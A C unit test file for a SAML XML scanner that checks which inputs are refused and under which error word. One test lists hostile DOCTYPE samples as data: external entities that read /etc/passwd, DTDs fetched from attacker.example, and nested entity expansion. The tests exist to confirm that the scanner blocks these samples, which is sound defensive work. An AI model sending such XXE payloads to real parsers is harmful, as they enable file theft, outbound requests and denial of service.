/* scan.h: what is refused before any parser sees it, by which word, and how much may come. */
#include "base/base.h"

#include <setjmp.h>
#include <cmocka.h>

#include "base/arena.h"
#include "base/buf.h"
#include "base/text.h"
#include "saml/scan.h"
#include "saml/tree.h"
#include "saml/words.h"

static const char *scanned(const char *text, const struct xml_limits *limits)
{
	return xml_scan(BYTES_OF(text), limits);
}

static void assert_word(const char *text, const char *word)
{
	const char *said = scanned(text, &xml_of_request);

	if (!text_equal(said, word))
		fail_msg("%.80s: %s, not %s", text, said ? said : "fine", word ? word : "fine");
}

static void plain_xml_of_many_spellings_is_fine(void **state)
{
	static const char *const texts[] = {
		"<a/>",
		"<a />",
		"<a></a>",
		"<a></a >",
		" \n<a/>\n ",
		"<?xml version=\"1.0\"?><a/>",
		"<?xml version='1.0' encoding='utf-8' ?>\n<a/>",
		"<?xml version = \"1.0\" encoding = \"UTF-8\" standalone = \"yes\"?><a/>",
		"<a b='c' d=\"e\"/>",
		"<a b = 'c'\n\td='e' />",
		"<a b='1 > 0' c=\"it's\" d='\"'/>",
		"<p:a xmlns:p='urn:x' p:b='1' b='2'>text</p:a>",
		"<a xmlns='http://x.example/'><b xmlns=''/></a>",
		"<a>x &amp; y &lt; z &gt; &quot; &apos;</a>",
		"<a b='&amp;&#38;&#x26;&#13;'>&#xD;&#10;&#x1F600;</a>",
		"<a>]] ]> ></a>",
		"<a>\xC3\xA9\xE2\x82\xAC\xF0\x9F\x98\x80</a>",
		"<_a-1.x/>",
	};

	(void)state;
	for (size_t i = 0; i < COUNT(texts); i++)
		assert_word(texts[i], NULL);
}

static void what_could_be_read_in_two_ways_is_refused_by_its_word(void **state)
{
	static const struct {
		const char *text, *word;
	} rows[] = {
		{ "", "xml_empty" },
		{ "  \n", "xml_empty" },
		{ "<?xml version='1.0'?>", "xml_empty" },
		{ "\xEF\xBB\xBF<a/>", "xml_encoding" },
		{ "<a>\x01</a>", "xml_encoding" },
		{ "<a>\x7F</a>", "xml_encoding" },
		{ "<a>\xC2\x85</a>", "xml_encoding" },
		{ "<a>\xC0\xBC</a>", "xml_encoding" },         /* an overlong "<" */
		{ "<a>\xE0\x80\xBC</a>", "xml_encoding" },     /* longer still */
		{ "<a>\xED\xA0\x80</a>", "xml_encoding" },     /* half a surrogate pair */
		{ "<a>\xEF\xBF\xBF</a>", "xml_encoding" },     /* U+FFFF */
		{ "<a>\xF4\x90\x80\x80</a>", "xml_encoding" }, /* beyond U+10FFFF */
		{ "<a>\xC3</a>", "xml_encoding" },
		{ "<a>\xFF\xFE</a>", "xml_encoding" },
		{ "<?xml version='1.0' encoding='UTF-16'?><a/>", "xml_encoding" },
		{ "<?xml version='1.0' encoding='ISO-8859-1'?><a/>", "xml_encoding" },
		{ "<?xml version='1.0' encoding='UTF-7'?><a/>", "xml_encoding" },
		{ "<?xml version='1.1'?><a/>", "xml_declaration" },
		{ "<?xml encoding='UTF-8'?><a/>", "xml_declaration" },
		{ "<?xml version='1.0' standalone='maybe'?><a/>", "xml_declaration" },
		{ "<?xml version='1.0' more='x'?><a/>", "xml_declaration" },
		{ "<?xml version='1.0'encoding='UTF-8'?><a/>", "xml_declaration" },
		{ "<?xml version='1.0'", "xml_declaration" },
		{ "<?xml-stylesheet href='x'?><a/>", "xml_declaration" },
		{ " <?xml version='1.0'?><a/>", "xml_instruction" },
		{ "<a><?php x?></a>", "xml_instruction" },
		{ "<a/><?x?>", "xml_instruction" },
		{ "<a><!-- --></a>", "xml_comment" },
		{ "<!----><a/>", "xml_comment" },
		{ "<a><![CDATA[x]]></a>", "xml_cdata" },
		{ "<a><![cdata[x]]></a>", "xml_doctype" },
		{ "<a>&x;</a>", "xml_entity" },
		{ "<a>& </a>", "xml_entity" },
		{ "<a>&AMP;</a>", "xml_entity" },
		{ "<a>&amp</a>", "xml_entity" },
		{ "<a b='&x;'/>", "xml_entity" },
		{ "<a>&#0;</a>", "xml_character" },
		{ "<a>&#1;</a>", "xml_character" },
		{ "<a>&#x;</a>", "xml_character" },
		{ "<a>&#;</a>", "xml_character" },
		{ "<a>&#xD800;</a>", "xml_character" },
		{ "<a>&#xFFFE;</a>", "xml_character" },
		{ "<a>&#x110000;</a>", "xml_character" },
		{ "<a>&#99999999999;</a>", "xml_character" },
		{ "<a>&#x1F;</a>", "xml_character" },
		{ "<a>&#X41;</a>", "xml_character" },
		{ "<a>&#65</a>", "xml_character" },
		{ "<a>&#4294967361;</a>", "xml_character" }, /* 65 beyond 32 bits */
		{ "<1a/>", "xml_name" },
		{ "< a/>", "xml_name" },
		{ "<>", "xml_name" },
		{ "<a:/>", "xml_name" },
		{ "<:a/>", "xml_name" },
		{ "<a:b:c/>", "xml_tag" },
		{ "<\xC3\xA9/>", "xml_name" },
		{ "<a 1='x'/>", "xml_name" },
		{ "<a b/>", "xml_tag" },
		{ "<a b=c/>", "xml_tag" },
		{ "<a b='<'/>", "xml_tag" },
		{ "<a b='1'c='2'/>", "xml_tag" },
		{ "<a/ >", "xml_tag" },
		{ "<a>]]></a>", "xml_text" },
		{ "<a", "xml_unbalanced" },
		{ "<a ", "xml_unbalanced" },
		{ "<a b='x", "xml_unbalanced" },
		{ "<a>", "xml_unbalanced" },
		{ "<a><b></a></b>", "xml_unbalanced" },
		{ "<a></A>", "xml_unbalanced" },
		{ "</a>", "xml_unbalanced" },
		{ "<a/></a>", "xml_unbalanced" },
		{ "<a/>x", "xml_outside" },
		{ "x<a/>", "xml_outside" },
		{ "<a/><a/>", "xml_outside" },
		{ "<a/>&amp;", "xml_outside" },
		{ "<a b='1' b='2'/>", "xml_attribute_twice" },
		{ "<a b='1' c='' b='2'/>", "xml_attribute_twice" },
		{ "<p:a xmlns:p='x'/>", "xml_namespace" },
		{ "<p:a xmlns:p='../x'/>", "xml_namespace" },
		{ "<p:a xmlns:p=''/>", "xml_namespace" },
		{ "<p:a xmlns:p='urn:'/>", "xml_namespace" },
		{ "<p:a xmlns:p=':x'/>", "xml_namespace" },
		{ "<p:a xmlns:p='1:x'/>", "xml_namespace" },
		{ "<p:a xmlns:p='urn:x y'/>", "xml_namespace" },
		{ "<p:a xmlns:p='urn&#58;x'/>", "xml_namespace" },
		{ "<a xmlns='x'/>", "xml_namespace" },
		{ "<a xmlns:xml='http://www.w3.org/XML/1998/namespace'/>", "xml_namespace" },
		{ "<a xmlns:xmlns='urn:x'/>", "xml_namespace" },
		{ "<xmlns:a/>", "xml_namespace" },
	};

	(void)state;
	for (size_t i = 0; i < COUNT(rows); i++)
		assert_word(rows[i].text, rows[i].word);
}

static void every_document_type_is_refused(void **state)
{
	static const char *const types[] = {
		"<!DOCTYPE a>",
		"<!DOCTYPE a [<!ENTITY x 'y'>]>",
		"<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
		"<!DOCTYPE a [<!ENTITY x SYSTEM 'http://attacker.example/'>]>",
		"<!DOCTYPE a SYSTEM 'http://attacker.example/a.dtd'>",
		"<!DOCTYPE a PUBLIC '-//X//Y' 'http://attacker.example/a.dtd'>",
		"<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://attacker.example/'> %p;]>",
		"<!DOCTYPE a [<!ENTITY l '&#60;b/>'>]>",
		"<!DOCTYPE a [<!ENTITY a '0123456789'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>]>",
		"<!DOCTYPE a [<!ATTLIST a ID ID #IMPLIED>]>",
		"<!DOCTYPE a [<!ATTLIST a xmlns CDATA #FIXED 'urn:x'>]>",
		"<!DOCTYPE a [<!ELEMENT a ANY>]>",
		"<!DOCTYPE a [<!NOTATION n SYSTEM 'x'>]>",
		"<!DOCTYPE a [<!-- -->]>",
		"<!doctype a>",
	};
	AUTO(arena_done) struct arena *arena = arena_new();

	(void)state;
	for (size_t i = 0; i < COUNT(types); i++) {
		assert_word(arena_print(arena, "%s<a/>", types[i]), "xml_doctype");
		assert_word(arena_print(arena, "<?xml version='1.0'?>\n%s\n<a/>", types[i]), "xml_doctype");
		assert_word(arena_print(arena, "<a>%s</a>", types[i]), "xml_doctype");
	}
}

static void nul_and_wider_encodings_are_refused(void **state)
{
	static const uint8_t nul[] = "<a>\0</a>", behind[] = "<a/>\0", little[] = "<\0a\0/\0>\0",
			     big[] = "\0<\0a\0/\0>", marked[] = "\xFF\xFE<\0a\0/\0>\0",
			     four[] = "<\0\0\0a\0\0\0/\0\0\0>\0\0\0", ebcdic[] = "\x4C\x6F\xA7\x94";
	static const struct bytes texts[] = {
		{ nul, sizeof(nul) - 1 },       { behind, sizeof(behind) - 1 },
		{ little, sizeof(little) - 1 }, { big, sizeof(big) - 1 },
		{ marked, sizeof(marked) - 1 }, { four, sizeof(four) - 1 },
		{ ebcdic, sizeof(ebcdic) - 1 },
	};

	(void)state;
	for (size_t i = 0; i < COUNT(texts); i++)
		assert_string_equal(xml_scan(texts[i], &xml_of_request), "xml_encoding");
}

static void comments_are_fine_in_metadata_alone(void **state)
{
	(void)state;
	assert_null(scanned("<!-- x > y --><a><!----><b/></a><!-- - -->", &xml_of_metadata));
	assert_string_equal(scanned("<a><!-- -- --></a>", &xml_of_metadata), "xml_comment");
	assert_string_equal(scanned("<a><!-- x</a>", &xml_of_metadata), "xml_comment");
	assert_string_equal(scanned("<a><!--></a>", &xml_of_metadata), "xml_comment");
	assert_string_equal(scanned("<a><![CDATA[x]]></a>", &xml_of_metadata), "xml_cdata");
}

/* "<a>" count times, text between, "</a>" count times. */
static char *repeated(struct arena *arena, const char *before, const char *piece, size_t count,
		      const char *after)
{
	AUTO_BUF text = BUF(8 * MB);

	buf_text(&text, before);
	for (size_t i = 0; i < count; i++)
		buf_text(&text, piece);
	buf_text(&text, after);
	return arena_text(arena, buf_str(&text));
}

static char *nested(struct arena *arena, size_t depth)
{
	return repeated(arena, repeated(arena, "", "<a>", depth, ""), "</a>", depth, "");
}

/* So many namespaces, 8 a tag, around each other; so many times side by side. */
static char *in_scope(struct arena *arena, int count, int times)
{
	AUTO_BUF text = BUF(MB);

	buf_text(&text, "<r>");
	for (; times > 0; times--) {
		for (int i = 0; i < count; i++)
			buf_print(&text, "%s xmlns:n%d='urn:x'%s", i % 8 ? "" : "<a", i,
				  i % 8 == 7 || i + 1 == count ? ">" : "");
		for (int i = 0; i < count; i += 8)
			buf_text(&text, "</a>");
	}
	buf_text(&text, "</r>");
	return arena_text(arena, buf_str(&text));
}

static char *attributes(struct arena *arena, size_t count, const char *format)
{
	AUTO_BUF text = BUF(8 * MB);

	buf_text(&text, "<a");
	for (size_t i = 0; i < count; i++) {
		buf_text(&text, format);
		buf_print(&text, "%zu='urn:x'", i);
	}
	buf_text(&text, "/>");
	return arena_text(arena, buf_str(&text));
}

static void each_limit_is_kept_and_one_more_is_refused(void **state)
{
	AUTO(arena_done) struct arena *arena = arena_new();
	const struct xml_limits *limits = &xml_of_request;
	char *one = attributes(arena, limits->attributes_of_one, " b"), name[140];
	char *many = repeated(arena, "<r>", one, limits->attributes / limits->attributes_of_one, "");

	(void)state;
	assert_word(nested(arena, limits->depth), NULL);
	assert_word(nested(arena, limits->depth + 1), "xml_too_deep");
	assert_word(repeated(arena, "<r>", "<a/>", limits->elements - 1, "</r>"), NULL);
	assert_word(repeated(arena, "<r>", "<a/>", limits->elements, "</r>"), "xml_too_many_elements");
	assert_word(one, NULL);
	assert_word(attributes(arena, limits->attributes_of_one + 1, " b"), "xml_too_many_attributes");
	assert_word(arena_print(arena, "%s</r>", many), NULL);
	assert_word(arena_print(arena, "%s%s</r>", many, one), "xml_too_many_attributes");
	assert_word(attributes(arena, 16, " xmlns:p"), NULL);
	assert_word(attributes(arena, 17, " xmlns:p"), "xml_too_many_namespaces");
	assert_word(in_scope(arena, 64, 1), NULL);
	assert_word(in_scope(arena, 64, 20), NULL);
	assert_word(in_scope(arena, 65, 1), "xml_too_many_namespaces");
	assert_word(repeated(arena, "<a>", "x", limits->bytes - 7, "</a>"), NULL);
	assert_word(repeated(arena, "<a>", "x", limits->bytes - 6, "</a>"), "xml_too_large");
	memset(name, 'n', sizeof(name));
	assert_word(arena_print(arena, "<%.128s/>", name), NULL);
	assert_word(arena_print(arena, "<%.129s/>", name), "xml_name");
}

static void hostile_sizes_are_refused(void **state)
{
	AUTO(arena_done) struct arena *arena = arena_new();

	(void)state;
	assert_word(attributes(arena, 50000, " b"), "xml_too_large");
	assert_word(nested(arena, 30000), "xml_too_large");
	assert_word(nested(arena, 9000), "xml_too_deep");
	assert_word(attributes(arena, 4000, " b"), "xml_too_many_attributes");
}

/* A second opinion: whatever libxml2 finds wrong with the plain rows above it finds wrong here too. */
static void what_the_scanner_accepts_the_parser_accepts(void **state)
{
	static const char *const texts[] = {
		"<a b='1 > 0' c=\"it's\" d='\"'/>",
		"<p:a xmlns:p='urn:x' p:b='1' b='2'>]] ]> &#xD;&amp;</p:a>",
		"<?xml version='1.0' encoding='utf-8' standalone='no' ?>\n<a xmlns='urn:a'><b "
		"xmlns=''/></a>\n",
	};
	AUTO(arena_done) struct arena *arena = arena_new();

	(void)state;
	for (size_t i = 0; i < COUNT(texts); i++) {
		assert_word(texts[i], NULL);
		assert_non_null(tree_parse(arena, BYTES_OF(texts[i])));
	}
	assert_null(tree_parse(arena, BYTES_OF("<p:a/>")));
	assert_null(tree_parse(arena, BYTES_OF("<a xmlns:p='urn:x' xmlns:q='urn:x' p:b='1' q:b='2'/>")));
}

static void every_word_is_there_once_and_known(void **state)
{
	(void)state;
	for (int i = WORD_NONE + 1; i < WORD_COUNT; i++) {
		assert_int_equal(saml_word_of(saml_words[i].word), i);
		assert_true(saml_words[i].err != OK && *saml_words[i].meaning != '\0');
	}
	assert_int_equal(saml_word_of("no_such_word"), WORD_NONE);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(plain_xml_of_many_spellings_is_fine),
		cmocka_unit_test(what_could_be_read_in_two_ways_is_refused_by_its_word),
		cmocka_unit_test(every_document_type_is_refused),
		cmocka_unit_test(nul_and_wider_encodings_are_refused),
		cmocka_unit_test(comments_are_fine_in_metadata_alone),
		cmocka_unit_test(each_limit_is_kept_and_one_more_is_refused),
		cmocka_unit_test(hostile_sizes_are_refused),
		cmocka_unit_test(what_the_scanner_accepts_the_parser_accepts),
		cmocka_unit_test(every_word_is_there_once_and_known),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
